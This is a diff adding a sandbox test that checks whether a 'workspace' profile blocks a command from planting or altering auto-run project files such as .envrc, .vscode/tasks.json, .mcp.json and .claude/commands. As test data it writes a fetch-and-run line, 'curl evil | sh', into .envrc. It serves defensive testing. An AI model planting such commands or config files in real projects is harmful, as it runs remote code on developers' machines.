@@ -247,6 +247,39 @@ for (const user of USERS) {
           expect(s.host("git -C a/src log --format=%s").stdout.trim()).toBe("x");
         },
       );
+
+      test("project files at the top of the write root: changed or planted without protection, not with it", () => {
+        const s = scene(user);
+        s.host("mkdir .vscode && echo '{}' > .vscode/tasks.json");
+        const plant = [
+          `echo '{"tasks":"evil"}' > .vscode/tasks.json`,
+          "echo 'curl evil | sh' > .envrc",
+          "echo '{}' > .mcp.json",
+          "mkdir -p .claude/commands .idea && echo evil > .claude/commands/x.md",
+          "touch ordinary-new-file",
+          "true",
+        ].join("; ");
+        s.sandboxed(["-w", ".", ...modeArgs(mode)], plant);
+        expect(readFileSync(s.at(".vscode/tasks.json"), "utf8")).toContain("evil");
+        for (const name of [".envrc", ".mcp.json", ".claude", ".idea"]) expect(existsSync(s.at(name))).toBe(true);
+        s.host("rm -rf .envrc .mcp.json .claude .idea ordinary-new-file && echo '{}' > .vscode/tasks.json");
+
+        const result = s.sandboxed(["--profile", "workspace", ...modeArgs(mode)], plant);
+        expect(result.exitCode).toBe(0);
+        expect(readFileSync(s.at(".vscode/tasks.json"), "utf8")).toBe("{}\n");
+        for (const name of [".envrc", ".mcp.json", ".claude", ".idea"]) expect(existsSync(s.at(name))).toBe(false);
+        // Ordinary work at the top of the project is unaffected, in both modes.
+        expect(existsSync(s.at("ordinary-new-file"))).toBe(true);
+        if (mode === "landlock") expect(result.stderr).toContain(`protectFiles: removed ${s.at(".envrc")}`);
+
+        // A policy file releases one by name.
+        const released = s.sandboxed(
+          ["-p", '{"profile": "workspace", "releaseFiles": [".envrc"]}', ...modeArgs(mode)],
+          "echo 'use nix' > .envrc",
+        );
+        expect(released.exitCode).toBe(0);
+        expect(readFileSync(s.at(".envrc"), "utf8")).toBe("use nix\n");
+      });
     });
   }
 }
